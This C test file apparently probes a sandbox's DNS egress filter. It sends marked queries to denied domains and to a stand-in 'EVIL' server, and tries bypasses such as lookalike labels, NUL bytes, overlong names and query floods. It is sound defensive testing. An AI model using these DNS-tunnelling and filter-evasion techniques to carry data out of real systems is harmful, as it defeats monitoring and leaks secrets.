/*
 * Data carried out in names, and in whatever else a question has room for.
 *
 * The name server of target.py looks for the probe's name in all that comes to it.  Nobody may ask for what
 * is below leak.example; good.example, and what is below wild.example and flood.example, is allowed.
 */
#include "dnsquery.h"

#include <poll.h>
#include <stdio.h>
#include <string.h>

#define FLOOD 60 /* names */

/* --- a denied name, of each type ----------------------------------------------------------------------- */

#define ASK(name, how, server, port, type)                                                                   \
	PROBE(name)                                                                                          \
	{                                                                                                    \
		struct message m;                                                                            \
                                                                                                             \
		return how(server, port, ask(&m, leak(), type));                                             \
	}

ASK(dns_a, by_udp, SERVER, DNS_PORT, A)
ASK(dns_aaaa, by_udp, SERVER, DNS_PORT, AAAA)
ASK(dns_txt, by_udp, SERVER, DNS_PORT, TXT)
ASK(dns_null, by_udp, SERVER, DNS_PORT, 10)
ASK(dns_srv, by_udp, SERVER, DNS_PORT, SRV)
ASK(dns_cname, by_udp, SERVER, DNS_PORT, CNAME)
ASK(dns_https, by_udp, SERVER, DNS_PORT, HTTPS)
ASK(dns_any, by_udp, SERVER, DNS_PORT, ANY)
ASK(dns_unknown_type, by_udp, SERVER, DNS_PORT, 65280)
ASK(dns_of_stranger, by_udp, EVIL, DNS_PORT, A)
ASK(dns_of_here, by_udp, "127.0.0.1", DNS_PORT, A)
ASK(dns_of_any, by_udp, "0.0.0.0", DNS_PORT, A)
ASK(dns_multicast, by_udp, "224.0.0.251", 5353, A)
ASK(dns_tcp, by_tcp, SERVER, DNS_PORT, A)
ASK(dns_tcp_axfr, by_tcp, SERVER, DNS_PORT, AXFR)
ASK(dns_tcp_of_stranger, by_tcp, EVIL, DNS_PORT, TXT)
ASK(dns_tcp_of_here, by_tcp, "127.0.0.1", DNS_PORT, A)
ASK(dns_tls_port, by_tcp, SERVER, 853, A)

PROBE(dns_ptr)
{
	struct message m;

	return by_udp(SERVER, DNS_PORT, ask(&m, named("", ".in-addr.arpa"), PTR));
}

PROBE(dns_mixed_case)
{
	struct message m;

	return by_udp(SERVER, DNS_PORT, ask(&m, named("", ".LeAk.eXaMpLe"), A));
}

/* Names that end like an allowed one, if one does not look closely. */
PROBE(dns_dot_in_label)
{
	struct message m;

	want_net();
	put_header(&m, 1, RECURSIVE, 1, 0);
	put_label(&m, escape_name, strlen(escape_name));
	put_label(&m, "x.wild.example", 14);
	put8(&m, 0);
	put16(&m, A);
	put16(&m, IN);
	return by_udp(SERVER, DNS_PORT, &m);
}

PROBE(dns_nul_in_label)
{
	struct message m;

	want_net();
	put_header(&m, 1, RECURSIVE, 1, 0);
	put_label(&m, escape_name, strlen(escape_name));
	put_label(&m, "good", 4);
	put_label(&m, "example\0x", 9);
	put_label(&m, "leak", 4);
	put8(&m, 0);
	put16(&m, A);
	put16(&m, IN);
	return by_udp(SERVER, DNS_PORT, &m);
}

PROBE(dns_bytes_in_label)
{
	struct message m;

	return by_udp(SERVER, DNS_PORT,
		      ask(&m,
			  named("", ".wi\xc3\xaf"
				    "ld.example"),
			  A));
}

PROBE(dns_lookalike)
{
	struct message m;

	/* A Cyrillic letter of wild. */
	return by_udp(SERVER, DNS_PORT, ask(&m, named("", ".xn--wld-qdd.example"), A));
}

PROBE(dns_suffix_only)
{
	struct message m;

	return by_udp(SERVER, DNS_PORT, ask(&m, named("", ".notwild.example"), A));
}

PROBE(dns_allowed_as_prefix)
{
	struct message m;

	return by_udp(SERVER, DNS_PORT, ask(&m, named("good.example.", ".leak.example"), A));
}

/* --- more below an allowed name than a name is --------------------------------------------------------- */

/* 63 bytes are what a label has room for. */
PROBE(dns_long_label)
{
	char name[100];
	struct message m;

	want_net();
	memset(name, '-', 63);
	memcpy(name, escape_name, strlen(escape_name));
	strcpy(name + 63, ".wild.example");
	return by_udp(SERVER, DNS_PORT, ask(&m, name, A));
}

PROBE(dns_deep_name)
{
	char name[300] = "";
	struct message m;

	for (int i = 0; i < 14; i++)
		strcat(name, "0123456789ab.");
	strcat(name, named("", ".wild.example"));
	return by_udp(SERVER, DNS_PORT, ask(&m, name, A));
}

/* So many that each may be short. */
PROBE(dns_many_names)
{
	struct sockaddr_in a = v4_at(SERVER, DNS_PORT);
	int s = made(AF_INET, SOCK_DGRAM, 0);
	char prefix[16];
	struct message m;

	if (s < 0 || DO(connect, s, (void *)&a, sizeof(a)) < 0)
		return STOPPED;
	for (int i = 0; i < FLOOD; i++) {
		struct pollfd p = { .fd = s, .events = POLLIN };
		char text[512];

		snprintf(prefix, sizeof(prefix), "n%d.", i);
		ask(&m, named(prefix, ".flood.example"), A);
		if (i < FLOOD - 1)
			ask(&m, strcat(prefix, "flood.example"), A);
		(void)write(s, m.text, m.len);
		if (poll(&p, 1, PATIENCE) == 1)
			(void)read(s, text, sizeof(text));
	}
	return await(s);
}
